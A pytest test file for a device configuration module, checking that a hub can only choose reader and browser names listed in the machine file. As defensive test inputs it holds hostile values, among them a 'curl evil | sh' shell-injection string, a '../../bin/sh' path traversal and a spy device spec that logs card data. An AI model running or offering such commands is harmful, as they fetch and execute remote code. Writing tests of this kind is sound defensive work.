"""A device's own machine file decides which ports and programs exist; the hub only names one."""

import sys

import pytest

from device import machine
from device.machine import Machine, MachineFileError


def test_the_hub_chooses_only_among_the_machines_names(tmp_path):
    machine.write(
        tmp_path,
        readers={"front": "sam:/dev/ttyUSB0"},
        browsers={"standin": [sys.executable, "-V"]},
        reader="front",
        browser="standin",
    )
    m = Machine.load(tmp_path)
    assert m.reader_spec("front") == ("front", "sam:/dev/ttyUSB0")
    assert m.reader_spec("pcsc") == ("pcsc", "pcsc")  # built in, no argument
    assert m.reader_spec("") == ("front", "sam:/dev/ttyUSB0")  # the machine's default
    # Whatever the hub sends that is not a name here leaves the machine on its default:
    for hostile in ("sam:spy:///tmp/cards.log", "sam:/dev/ttyS0", "../../bin/sh", "back"):
        assert m.reader_spec(hostile) == ("front", "sam:/dev/ttyUSB0")
    assert m.browser_argv("standin") == (sys.executable, "-V")
    assert m.browser_argv("sh -c 'curl evil | sh'") == (sys.executable, "-V")
    assert m.names()["readers"] == ["front", "pcsc", "sim", "wedge"]


def test_without_a_machine_file_only_the_built_ins(tmp_path):
    m = Machine.load(tmp_path)
    assert m.reader_spec("sam") == ("sim", "sim")


@pytest.mark.parametrize(
    "text",
    [
        '[browsers]\nx = "chromium --kiosk"\n',  # a command line string: never split by a shell
        '[browsers]\nx = ["chromium", "--kiosk"]\n',  # not a full path
        '[readers]\n"Bad Name" = "pcsc"\n',
        "reader = [\n",
    ],
)
def test_a_bad_machine_file_is_refused(tmp_path, text):
    (tmp_path / machine.FILE).write_text(text, encoding="utf-8")
    with pytest.raises(MachineFileError):
        Machine.load(tmp_path)
